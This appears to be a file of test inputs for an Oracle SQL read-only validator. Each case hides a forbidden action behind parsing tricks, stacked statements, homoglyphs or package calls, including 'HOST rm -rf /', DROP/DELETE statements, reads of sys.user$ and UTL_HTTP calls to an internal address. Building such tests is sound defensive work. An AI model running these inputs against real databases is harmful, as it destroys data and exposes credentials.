ALTER SESSION SET CURRENT_SCHEMA = sys
;;
-- O-SES-02: system changed
ALTER SYSTEM KILL SESSION '1,2'
;;
-- O-SES-03: transaction
SET TRANSACTION READ WRITE
;;
-- O-SES-04: role
SET ROLE ALL
;;
-- O-SES-05: commit of what somebody left open
COMMIT
;;
-- O-SES-06: plan written to a table
EXPLAIN PLAN FOR SELECT * FROM v_incident
;;
-- O-SES-07: plan written to a given table
EXPLAIN PLAN SET STATEMENT_ID = 'x' INTO incidents FOR SELECT * FROM v_incident
;;
-- O-SES-08: host command of a client
HOST rm -rf /
;;
-- O-SES-09: rolls back what somebody left open
ROLLBACK
;;
-- O-MANY-01: second statement
SELECT title FROM v_incident; DELETE FROM incidents
;;
-- O-MANY-02: second statement after a comment with a semicolon
SELECT title FROM v_incident /* ; */ ; DROP TABLE incidents
;;
-- O-MANY-03: second statement is a query of the dictionary
SELECT title FROM v_incident; SELECT * FROM sys.user$;
;;
-- O-MANY-04: slash of SQL*Plus ends a statement
SELECT title FROM v_incident
/
DROP TABLE incidents
/
;;
-- O-MANY-05: honest second statement still makes two
SELECT title FROM v_incident; SELECT title FROM v_action
;;
-- O-MANY-06: empty statement before the real one
; DELETE FROM incidents
;;
-- O-HIDE-01: q-quote with brackets ends before a simple reader thinks
SELECT q'[']' AS t FROM v_incident UNION SELECT name FROM sys.user$ --'
;;
-- O-HIDE-02: q-quote with an exclamation mark
SELECT q'!'!' AS t FROM v_incident UNION ALL SELECT question FROM feedback --'
;;
-- O-HIDE-03: national q-quote
SELECT nq'{it's}' AS t FROM v_incident UNION ALL SELECT to_nchar(name) FROM sys.user$ --'
;;
-- O-HIDE-04: q-quote whose sign is a quotation mark
SELECT Q'"'"' AS t FROM v_incident UNION ALL SELECT name FROM sys.user$ --'
;;
-- O-HIDE-05: q-quote, then a second statement
SELECT q'[it's]' FROM v_incident; DELETE FROM incidents --
;;
-- O-HIDE-06: comments do not nest in Oracle, so the second half is live
SELECT title FROM v_incident /* /* */ UNION ALL SELECT name FROM sys.user$ -- */
;;
-- O-HIDE-07: comment inside a comment inside a call
SELECT DBMS_XMLGEN./* /* */GETXML('select * from sys.user$') FROM v_incident
;;
-- O-HIDE-08: backslash is an ordinary letter, the string ends
SELECT '\' AS a, name AS b FROM sys.user$ WHERE name <> ' FROM v_incident --'
;;
-- O-HIDE-09: two quotation marks and a backslash
SELECT title || '\'' UNION SELECT ' AS x FROM v_incident UNION ALL SELECT name FROM sys.user$
;;
-- O-HIDE-10: the dashes stand in a quoted alias, the UNION is live
SELECT title AS "x -- /*" FROM v_incident UNION ALL SELECT name FROM sys.user$ -- */
;;
-- O-HIDE-11: a line break ends the line comment
SELECT title FROM v_incident -- only titles
UNION ALL SELECT name FROM sys.user$
;;
-- O-HIDE-12: number sign is no comment in Oracle
SELECT title FROM v_incident WHERE 1 = 1 # harmless
UNION ALL SELECT name FROM sys.user$
;;
-- O-HIDE-13: comment of two dashes stands in a string, the UNION is live
SELECT title, '-- ' AS x FROM v_incident UNION ALL SELECT name, '/*' FROM sys.user$ --*/'
;;
-- O-HIDE-14: dollar signs are no string in Oracle
SELECT title AS a$$ FROM v_incident UNION ALL SELECT name AS b$$ FROM sys.user$
;;
-- O-HIDE-15: escaped letters in a Unicode string
SELECT DBMS_XMLGEN.GETXML(UNISTR('\0073elect * from sys.user$')) FROM v_incident
;;
-- O-HIDE-16: SQL text put together from codes
SELECT DBMS_XMLGEN.GETXML(CHR(115) || 'elect * from sys.user' || CHR(36)) FROM dual
;;
-- O-HIDE-17: substitution variable of a client
SELECT title FROM &table_name
;;
-- O-HIDE-18: name put in place by a JDBC escape
SELECT title FROM {oj v_incident LEFT OUTER JOIN sys.user$ ON 1 = 1}
;;
-- O-UNI-01: Cyrillic letters in the name of the view
SELECT title FROM v_inсident
;;
-- O-UNI-02: Cyrillic letters in the name of a package
SELECT UTL_НТТР.REQUEST('http://10.0.0.5/') FROM v_incident
;;
-- O-UNI-03: Cyrillic letter in the name of a column
SELECT titlе FROM v_incident
;;
-- O-UNI-04: Cyrillic letter in the keyword FROM
SELECT title FRОM v_incident, sys.user$
;;
-- O-UNI-05: dotless i makes the upper-case forms equal in some locales
SELECT title FROM v_ıncident
;;
-- O-MISC-01: shadow dictionary through a graph
SELECT * FROM GRAPH_TABLE (azs_graph MATCH (a IS person) COLUMNS (a.name))
;;
-- O-MISC-02: lock of rows inside an inline view
SELECT * FROM (SELECT incident_id FROM v_incident FOR UPDATE)
;;
-- O-MISC-03: advanced queue message is taken
SELECT SYS.DBMS_AQ_BQVIEW.GET_TIME(1) FROM v_incident
;;
-- O-MISC-04: job is put in the queue by an inline function
WITH FUNCTION j RETURN NUMBER IS n NUMBER; BEGIN DBMS_JOB.SUBMIT(n, 'delete from incidents;'); COMMIT; RETURN n; END; SELECT j() FROM dual
;;
-- O-MISC-05: random order reads and sorts all rows with a package
SELECT title FROM v_incident ORDER BY DBMS_RANDOM.VALUE
;;
-- O-MISC-06: cryptography package burns the processor
SELECT DBMS_CRYPTO.HASH(UTL_RAW.CAST_TO_RAW(description), 6) FROM v_incident
;;
-- O-MISC-07: no FROM and a whole table as a value
SELECT (SELECT JSON_ARRAYAGG(JSON_OBJECT(*) RETURNING CLOB) FROM feedback)
;;
-- O-MISC-08: error message carries the data
SELECT TO_NUMBER((SELECT name FROM sys.user$ WHERE ROWNUM = 1)) FROM v_incident
;;
-- O-MISC-09: machine learning model of the database is run
SELECT PREDICTION(azs_model USING *) FROM v_incident
;;
-- O-MISC-10: statement is a list of values only
VALUES (UTL_HTTP.REQUEST('http://10.0.0.5/'))
;;
-- O-MISC-11: sample of physical blocks, another answer at every run
SELECT COUNT(*) FROM v_incident SAMPLE BLOCK (5) SEED (1)
;;
-- O-MISC-12: rows of every edition of the view
SELECT title FROM v_incident EDITION ora$base
;;
-- O-MISC-13: attribute of the session in an old outer join
SELECT a.title FROM v_incident a, v_action b WHERE b.performed_by(+) = SYS_CONTEXT('USERENV', 'OS_USER')
